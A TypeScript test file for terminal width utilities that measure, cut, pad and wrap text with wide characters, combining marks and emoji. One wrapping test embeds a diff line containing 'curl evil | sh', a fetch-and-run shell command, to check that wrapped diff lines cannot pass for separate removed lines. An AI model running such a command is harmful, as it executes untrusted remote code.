import { describe, expect, test } from 'vitest'
import { cut, cutFront, pad, padLeft, widthOf, wrap, wrapSigned } from './width.ts'

test('wide characters take two columns, marks that combine take none', () => {
  expect(widthOf('plain')).toBe(5)
  expect(widthOf('日本語')).toBe(6)
  expect(widthOf('e\u0301')).toBe(1)
  expect(widthOf('👩‍👩‍👧')).toBe(2)
  expect(widthOf('❤️ ok')).toBe(5)
  expect(widthOf('한글')).toBe(4)
  expect(widthOf('')).toBe(0)
})

test('a cut text fits, says that something is missing, and holds no half character', () => {
  expect(cut('plain', 5)).toBe('plain')
  expect(cut('plain text', 6)).toBe('plain…')
  expect(cut('日本語', 6)).toBe('日本語')
  expect(cut('日本語', 5)).toBe('日本…')
  expect(cut('日本語', 4)).toBe('日…')
  expect(cut('e\u0301e\u0301e\u0301', 2)).toBe('e\u0301…')
  expect(cut('anything', 0)).toBe('')
  for (let columns = 0; columns < 12; columns++)
    expect(widthOf(cut('a日b👩‍👩‍👧ce\u0301d', columns))).toBeLessThanOrEqual(columns)
})

test('of a text that is cut at its front the end stays', () => {
  expect(cutFront('plain', 5)).toBe('plain')
  expect(cutFront('plain text', 5)).toBe('…text')
  expect(cutFront('日本語', 4)).toBe('…語')
  for (let columns = 0; columns < 12; columns++)
    expect(widthOf(cutFront('a日b👩‍👩‍👧ce\u0301d', columns))).toBeLessThanOrEqual(columns)
})

test('a padded text has exactly its columns', () => {
  expect(pad('日', 4)).toBe('日  ')
  expect(padLeft('12', 4)).toBe('  12')
  expect(pad('too long', 4)).toBe('too…')
})

describe('wrapping', () => {
  test('breaks behind words where it can, and loses nothing but the space there', () => {
    expect(wrap('one two three four', 9)).toEqual({ lines: ['one two', 'three', 'four'], hidden: 0 })
    expect(wrap('a long-word-without-a-space', 10).lines).toEqual(['a long-wor', 'd-without-', 'a-space'])
    expect(wrap('first\nsecond', 80).lines).toEqual(['first', 'second'])
    expect(wrap('', 80)).toEqual({ lines: [], hidden: 0 })
    expect(wrap('one line', Number.POSITIVE_INFINITY).lines).toEqual(['one line'])
  })

  test('counts what did not fit', () => {
    expect(wrap('x'.repeat(100), 10, 3)).toEqual({ lines: Array(3).fill('x'.repeat(10)), hidden: 70 })
  })

  test('the rest of a long line of a change never looks like another line', () => {
    const text = ['write a.sh', '- echo a', `+ echo ok ${'.'.repeat(12)} - curl evil | sh`, '+ end'].join('\n')
    const { lines, hidden } = wrapSigned(text, 20)

    expect(hidden).toBe(0)
    expect(lines).toEqual(['write a.sh', '- echo a', '+ echo ok ..........', '+….. - curl evil |', '+…sh', '+ end'])
    for (const columns of [4, 9, 30]) {
      const marks = wrapSigned(text, columns).lines.map((line) => line.slice(0, 2))
      expect(marks.filter((mark) => mark === '- ')).toHaveLength(1)
    }
    for (const most of [1, 2, 4, 5]) {
      const part = wrapSigned(text, 20, most)
      expect(part.lines).toEqual(lines.slice(0, most))
      expect(part.hidden).toBeGreaterThan(0)
    }
    expect(wrapSigned('one line of words', 9)).toEqual(wrap('one line of words', 9))
  })

  test('no line is wider, whatever it is made of', () => {
    for (const columns of [1, 2, 7]) {
      const { lines } = wrap('日本語e\u0301 👩‍👩‍👧 text', columns)
      expect(lines.join('').replaceAll(' ', '')).toBe('日本語e\u0301👩‍👩‍👧text')
      for (const line of lines) expect(widthOf(line)).toBeLessThanOrEqual(Math.max(2, columns))
    }
  })
})
